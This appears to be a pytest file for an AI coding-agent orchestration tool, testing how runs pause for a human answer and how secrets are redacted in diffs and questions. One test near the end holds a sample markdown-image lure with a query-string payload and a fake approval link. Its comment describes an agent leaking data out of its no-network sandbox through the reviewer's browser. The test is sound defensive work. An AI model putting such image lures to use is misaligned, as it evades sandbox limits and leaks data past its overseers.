"""A failed task, or one whose agent asks for a person, waits for an answer
(``[approval] on_failure = "ask"``, docs/approval.md): driven through Prefect's API and
``aca answer`` against the real test server, real git, the fake Anthropic server."""

from __future__ import annotations

import asyncio
import json
import os
import re
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from aca_flows.cli import main
from aca_flows.flows import run_flow
from aca_flows.session.reading import list_sessions, load_session
from tests.fakes.coding_agent import coding_agent, task_of
from tests.fakes.llm_server import Reply
from tests.flows.test_approval import (
    WAIT,
    agent_requests,
    artifact,
    flow_run_id_named,
    start,
    wait_until_paused,
)
from tests.flows.test_artifacts import reports_of

ROOT = Path(__file__).resolve().parents[2]
QUESTION = "Tabs or spaces for a.txt?"
SECRET = "sk-ant-abcdefgh12345678"


@pytest.fixture(autouse=True)
def bounded_waits(monkeypatch):
    """A test that fails while a run waits must not leave it waiting for a day."""
    monkeypatch.setenv("ACA_APPROVAL__TIMEOUT_SECONDS", "300")


def asking_agent(request):
    """Writes a.txt (with a credential in it), then asks a person; once a reviewer's hint is
    in its prompt it does the task like the coding agent."""
    task_id, _, first = task_of(request)
    if task_id != "a" or "Hint from a reviewer:" in first:
        return coding_agent(request)
    turn = sum(1 for m in request.json["messages"] if m["role"] == "assistant")
    usage = {"input_tokens": 100, "output_tokens": 20}
    if turn == 0:
        content = f"indent = ?\nkey = {SECRET}\n"
        write = {"name": "write_file", "arguments": {"path": "a.txt", "content": content}}
        return Reply(tool_calls=[write], usage=usage)
    return Reply(
        tool_calls=[{"name": "ask_human", "arguments": {"question": QUESTION}}], usage=usage
    )


def plan_file(tmp_path, name: str) -> str:
    path = tmp_path / "tasks.md"
    path.write_text(f"# {name}\n\n- write a.txt {{#a}}\n- write b.txt {{#b depends_on=a}}\n")
    return str(path)


def test_an_agent_that_asks_pauses_the_run_and_aca_answer_resumes_it(
    tmp_path, repo, anthropic_fake, monkeypatch, capsys
):
    for _ in range(20):
        anthropic_fake.anthropic.enqueue(asking_agent)
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    name = f"Asks {uuid.uuid4().hex[:8]}"
    tasks = plan_file(tmp_path, name)
    thread, outcomes = start(lambda: run_flow(task_file=tasks, workdir=str(repo)))
    try:
        wait_until_paused(flow_run_id_named(name), thread)
        (session,) = list_sessions(repo)
        sid = session.id

        # Waiting, as aca shows it; the reading commands take no lock the run holds.
        assert main(["sessions", "list", "-w", str(repo), "--json"]) == 0
        (row,) = json.loads(capsys.readouterr().out)["sessions"]
        assert row["status"] == f"waiting: task a asks: {QUESTION}"
        # Another process reads it too: the run's lock does not block readers.
        listed = subprocess.run(
            [sys.executable, "-m", "aca_flows", "sessions", "list", "-w", str(repo), "--json"],
            capture_output=True,
            text=True,
            timeout=WAIT,
            env={**os.environ, "PYTHONPATH": str(ROOT)},
        )
        assert listed.returncode == 0, listed.stderr
        (row,) = json.loads(listed.stdout)["sessions"]
        assert row["status"] == f"waiting: task a asks: {QUESTION}"
        assert main(["sessions", "show", sid, "-w", str(repo)]) == 0
        shown = capsys.readouterr().out
        assert "Task a waits for an answer:" in shown and QUESTION in shown
        # From another folder, the command says where the session is.
        answer = f"aca answer {sid} a --workdir {repo.resolve()} --retry --hint TEXT"
        assert answer in " ".join(shown.split())

        # Next to the form: the question, and the diff of its worktree, redacted.
        question = asyncio.run(artifact(f"aca-question-{sid}-a"))
        assert "Task `a` asks a person" in question and f"```text\n{QUESTION}\n```" in question
        diff = asyncio.run(artifact(f"aca-diff-{sid}-a"))
        assert "+++ b/a.txt" in diff and "+indent = ?" in diff
        assert "+key = [REDACTED]" in diff and SECRET not in diff

        # Wrong answers are refused, and the run keeps waiting.
        assert main(["answer", sid, "b", "--skip", "-w", str(repo)]) == 2
        assert f"task b of session {sid} is not waiting" in capsys.readouterr().err
        assert main(["answer", sid, "a", "-w", str(repo)]) == 2
        assert "exactly one of --retry" in capsys.readouterr().err
        assert main(["answer", sid, "a", "--skip", "--hint", "x", "-w", str(repo)]) == 2
        assert "--hint goes with --retry" in capsys.readouterr().err

        assert (
            main(["answer", sid[:15], "a", "--retry", "--hint", "use tabs", "-w", str(repo)]) == 0
        )
        assert "task a: retry" in capsys.readouterr().out
        thread.join(WAIT)
        assert not thread.is_alive(), "the answered run did not end"
    finally:
        thread.join(WAIT)

    (outcome,) = outcomes
    assert outcome.summary["status"] == "completed"
    session = load_session(repo, sid)
    assert {t.id: str(t.status) for t in session.plan.tasks} == {"a": "completed", "b": "completed"}
    assert session.question is None and session.tasks["a"].attempts == 2
    # The retry's prompt holds the agent's question and the reviewer's hint.
    retried = [r for r in agent_requests(anthropic_fake) if "Hint from a reviewer" in task_of(r)[2]]
    assert (
        retried
        and f"You asked a person: {QUESTION}\nHint from a reviewer: use tabs"
        in (task_of(retried[0])[2])
    )
    assert main(["answer", sid, "a", "--fail", "-w", str(repo)]) == 2  # nothing waits now
    assert "has no task waiting for an answer (status: completed)" in capsys.readouterr().err


def test_a_fail_answer_with_a_reason_fails_the_task_and_skips_its_dependents(
    tmp_path, repo, anthropic_fake, monkeypatch, capsys
):
    for _ in range(20):
        anthropic_fake.anthropic.enqueue(asking_agent)
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    name = f"Asks fail {uuid.uuid4().hex[:8]}"
    tasks = plan_file(tmp_path, name)
    thread, outcomes = start(lambda: run_flow(task_file=tasks, workdir=str(repo)))
    try:
        wait_until_paused(flow_run_id_named(name), thread)
        (session,) = list_sessions(repo)
        assert (
            main(["answer", session.id, "a", "--fail", "--reason", "out of scope", "-w", str(repo)])
            == 0
        )
        thread.join(WAIT)
    finally:
        thread.join(WAIT)

    summary = outcomes[0].summary
    assert summary["status"] == "failed"
    assert summary["tasks"]["a"]["reason"] == (
        f"out of scope (a reviewer's decision); the agent needs a person to decide: {QUESTION}"
    )
    assert summary["tasks"]["b"]["state"] == "skipped"


def test_a_skip_answer_ends_the_task_in_a_skipped_task_run_and_its_dependent_runs(
    tmp_path, repo, anthropic_fake, monkeypatch
):
    # Its only task run stayed Failed, in a Completed group, while the session, the event and
    # the report said skipped.
    from tests.flows.test_run_ends import task_runs_of

    anthropic_fake.anthropic.default = asking_agent
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    name = f"Asks skip {uuid.uuid4().hex[:8]}"
    tasks = plan_file(tmp_path, name)
    thread, outcomes = start(lambda: run_flow(task_file=tasks, workdir=str(repo)))
    try:
        wait_until_paused(flow_run_id_named(name), thread)
        (session,) = list_sessions(repo)
        assert main(["answer", session.id, "a", "--skip", "-w", str(repo)]) == 0
        thread.join(WAIT)
    finally:
        thread.join(WAIT)

    summary = outcomes[0].summary
    assert summary["status"] == "completed" and summary["tasks"]["b"]["state"] == "completed"
    runs = sorted(
        (r for r in asyncio.run(task_runs_of(session.id)) if r.name.startswith("a ")),
        key=lambda r: r.expected_start_time,
    )
    assert [r.state.name for r in runs] == ["Failed", "Skipped"]
    assert "skipped after it failed" in runs[-1].state.message


def test_a_task_that_lands_while_another_waits_for_an_answer_is_recorded_at_once(
    tmp_path, repo, anthropic_fake, monkeypatch, capsys
):
    """The question waits in the flow run, not in the scheduler: c lands (and shows so) while
    a waits; c's dependent starts once a is answered (a paused flow run starts no task run)."""
    asked = threading.Event()

    def agent(request):
        if task_of(request)[0] == "c":
            asked.wait(WAIT)  # c finishes only once a's question is open
            return coding_agent(request)
        return asking_agent(request)

    for _ in range(30):
        anthropic_fake.anthropic.enqueue(agent)
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    name = f"Asks others go on {uuid.uuid4().hex[:8]}"
    tasks = tmp_path / "tasks.md"
    tasks.write_text(
        f"# {name}\n\n- write a.txt {{#a}}\n- write c.txt {{#c}}\n"
        "- write d.txt {#d depends_on=c}\n"
    )
    thread, outcomes = start(lambda: run_flow(task_file=str(tasks), workdir=str(repo)))
    try:
        wait_until_paused(flow_run_id_named(name), thread)
        asked.set()
        (session,) = list_sessions(repo)
        deadline = time.monotonic() + WAIT
        while str(load_session(repo, session.id).plan.task("c").status) != "completed":
            assert time.monotonic() < deadline, "c landed, but the session never said so"
            time.sleep(0.2)
        assert str(load_session(repo, session.id).plan.task("d").status) == "pending"
        assert main(["sessions", "list", "-w", str(repo), "--json"]) == 0
        (row,) = json.loads(capsys.readouterr().out)["sessions"]
        assert row["status"] == f"waiting: task a asks: {QUESTION}"

        assert main(["answer", session.id, "a", "--skip", "-w", str(repo)]) == 0
        thread.join(WAIT)
        assert not thread.is_alive(), "the answered run did not end"
    finally:
        asked.set()
        thread.join(WAIT)

    states = {t: s["state"] for t, s in outcomes[0].summary["tasks"].items()}
    assert states == {"a": "skipped", "c": "completed", "d": "completed"}


def test_without_ask_an_agent_that_asks_fails_its_task_with_the_question(
    tmp_path, repo, anthropic_fake, capsys
):
    for _ in range(20):
        anthropic_fake.anthropic.enqueue(asking_agent)
    outcome = run_flow(
        task_file=plan_file(tmp_path, f"No ask {uuid.uuid4().hex[:8]}"), workdir=str(repo)
    )

    reason = f"the agent needs a person to decide: {QUESTION}"
    summary = outcome.summary
    assert summary["status"] == "failed" and summary["failed_ids"] == ["a"]
    assert summary["tasks"]["a"]["reason"] == reason
    assert summary["tasks"]["b"]["state"] == "skipped"
    sid = summary["session_id"]
    assert main(["sessions", "show", sid, "-w", str(repo)]) == 0
    assert f"failed: {reason}" in capsys.readouterr().out
    report = reports_of(sid)["a"].data
    assert "## Why it failed" in report and QUESTION in report
    assert load_session(repo, sid).question is None  # nobody was asked


def test_nobody_answering_in_time_fails_the_task(tmp_path, repo, anthropic_fake, monkeypatch):
    for _ in range(20):
        anthropic_fake.anthropic.enqueue(asking_agent)
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    monkeypatch.setenv("ACA_APPROVAL__TIMEOUT_SECONDS", "1")

    outcome = run_flow(
        task_file=plan_file(tmp_path, f"Ask timeout {uuid.uuid4().hex[:8]}"), workdir=str(repo)
    )

    summary = outcome.summary
    assert summary["status"] == "failed"
    # Its status says nobody answered, as an approval's timeout does (not the question alone).
    assert summary["tasks"]["a"]["reason"] == (
        f"the agent needs a person to decide: {QUESTION}; no answer within 1 s"
    )
    session = load_session(repo, summary["session_id"])
    assert session.question is None
    events = (repo / ".aca" / "sessions" / session.id / "meta" / "events.jsonl").read_text()
    answered = [json.loads(line) for line in events.splitlines() if '"task_answered"' in line]
    assert [(e["action"], e["timed_out"], e["reason"]) for e in answered] == [
        ("fail", True, "no answer within 1 s")
    ]


def test_a_task_whose_id_has_capitals_underscores_or_dots_can_ask_too(
    tmp_path, repo, anthropic_fake, monkeypatch, capsys
):
    # Prefect's pause keys take lower-case letters, digits and dashes: `Db_init` (and every
    # proposed subtask, `parent.child`) failed at once, "waits for a decision" said before.
    def asks(request):
        task_id, _, first = task_of(request)
        if "Hint from a reviewer:" in first:
            return coding_agent(request)
        return Reply(tool_calls=[{"name": "ask_human", "arguments": {"question": QUESTION}}])

    for _ in range(10):
        anthropic_fake.anthropic.enqueue(asks)
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    name = f"Ids {uuid.uuid4().hex[:8]}"
    tasks = tmp_path / "tasks.md"
    tasks.write_text(f"# {name}\n\n- write a.txt {{#Db_init.v2}}\n")
    thread, outcomes = start(lambda: run_flow(task_file=str(tasks), workdir=str(repo)))
    try:
        wait_until_paused(flow_run_id_named(name), thread)
        (session,) = list_sessions(repo)
        args = ["answer", session.id, "Db_init.v2", "--retry", "--hint", "go", "-w", str(repo)]
        assert main(args) == 0, capsys.readouterr().err
        thread.join(WAIT)
    finally:
        thread.join(WAIT)

    (outcome,) = outcomes
    assert outcome.summary["status"] == "completed"
    assert load_session(repo, session.id).tasks["Db_init.v2"].attempts == 2


def test_a_run_its_budget_stopped_waits_for_no_answer_and_its_resume_asks_again(
    tmp_path, repo, anthropic_fake, monkeypatch
):
    # Stopped by its budget while a asked, the run waited up to [approval] timeout_seconds
    # (a day by default) for an answer that could start no task.
    def agent(request):
        if task_of(request)[0] == "c":
            time.sleep(1.5)  # a asks first; c's calls then spend past the budget
        return asking_agent(request)

    anthropic_fake.anthropic.default = agent
    monkeypatch.setenv("ACA_APPROVAL__ON_FAILURE", "ask")
    tasks = tmp_path / "tasks.md"
    name = f"Stops {uuid.uuid4().hex[:8]}"
    tasks.write_text(f"# {name}\n\n- write a.txt {{#a}}\n- write c.txt {{#c}}\n")
    started = time.monotonic()
    outcome = run_flow(
        task_file=str(tasks), workdir=str(repo), model="claude-sonnet-4-6", budget_usd=0.0015
    )

    assert time.monotonic() - started < 60  # not the 300 s the fixture allows an answer
    assert outcome.summary["status"] == "stopped", outcome.state_name
    assert outcome.summary["tasks"]["a"]["state"] == "pending"
    session = load_session(repo, outcome.summary["session_id"])
    assert session.question is None and session.status == "stopped"


def test_the_agents_words_next_to_the_form_are_text_not_markdown(tmp_path):
    # An image in the agent's question was fetched by the reviewer's browser as the question
    # showed: a way out of the sandbox's no-network, to a server the agent chose.
    from types import SimpleNamespace

    from aca_flows.agent.execute import TaskOutcome
    from aca_flows.flows.task_help import _question
    from aca_flows.plan.models import ExecutionPlan, Task

    plan = ExecutionPlan(name="p", tasks=[Task(id="a", title="write a.txt", verify="true")])
    run = SimpleNamespace(plan=plan, session_id="s1", workdir=tmp_path)
    lure = "![status](http://127.0.0.1:47999/leak.png?d=c2VjcmV0) [Click to approve](http://x/y)"
    asked = TaskOutcome(task_id="a", status="failed", human_question=f"Which style?\n{lure}")
    failed = TaskOutcome(
        task_id="a", status="failed", failure_reason=f"the agent gave up: {lure}",
        verify_command="make `x`", verify_output="boom",
    )  # fmt: skip

    for outcome in (asked, failed):
        shown = _question(run, "a", outcome)
        rendered = re.sub(r"(`{3,})text\n.*?\n\1", "", shown, flags=re.S)  # fenced: as written
        assert "![status](" not in rendered and "[Click to approve](" not in rendered, shown
        assert "status" in shown and "Click to approve" in shown
    assert f"```text\nWhich style?\n{lure}\n```" in _question(run, "a", asked)


def test_a_secret_the_question_cuts_through_is_not_shown_in_part(tmp_path, monkeypatch):
    # The check's output and the diff were cut before they were redacted: 22 of a token's 27
    # characters reached the question's artifact and 26 the diff above the form.
    from types import SimpleNamespace

    from aca_flows.agent.execute import TaskOutcome
    from aca_flows.flows.task_help import FORM_DIFF_LIMIT, OUTPUT_LIMIT, _form_diff, _question
    from aca_flows.plan.models import ExecutionPlan, Task

    token = "dt_Q7mX2vL9kR4wZ8nP3tY6bH1c"
    monkeypatch.setenv("DEPLOY_TOKEN", token)
    plan = ExecutionPlan(name="p", tasks=[Task(id="a", title="write a.txt", verify="true")])
    run = SimpleNamespace(plan=plan, session_id="s1", workdir=tmp_path)
    output = f"using {token}\n" + "Z" * (OUTPUT_LIMIT - 20)
    failed = TaskOutcome(
        task_id="a", status="failed", failure_reason="the check failed",
        verify_command="make check", verify_output=output, summary=output,
    )  # fmt: skip
    diff = "+x\n" * 1990 + f"+token = {token}\n"  # the cut at 6,000 keeps its first 21
    assert len("+x\n" * 1990 + "+token = ") + 21 == FORM_DIFF_LIMIT

    assert token[-19:] in output[-OUTPUT_LIMIT:]  # the question's cut keeps its last 19
    assert token[-12:] not in _question(run, "a", failed)
    assert token[:15] not in _form_diff(diff, "key")


def test_a_hint_given_with_a_skip_or_a_fail_is_kept_as_its_reason():
    # The form has both fields: a hint with skip was logged "skip (h)" and went nowhere.
    from aca_flows.flows.task_help import TaskHelp, _tidied

    answer = _tidied(TaskHelp(action="skip", hint=" done by hand ", reason=""))
    assert (answer.hint, answer.reason) == ("", "done by hand")
    answer = _tidied(TaskHelp(action="fail", hint="see PR 12", reason="broken upstream"))
    assert (answer.hint, answer.reason) == ("", "broken upstream; see PR 12")
    retry = _tidied(TaskHelp(action="retry", hint=" use tabs ", reason=""))
    assert (retry.hint, retry.reason) == ("use tabs", "")
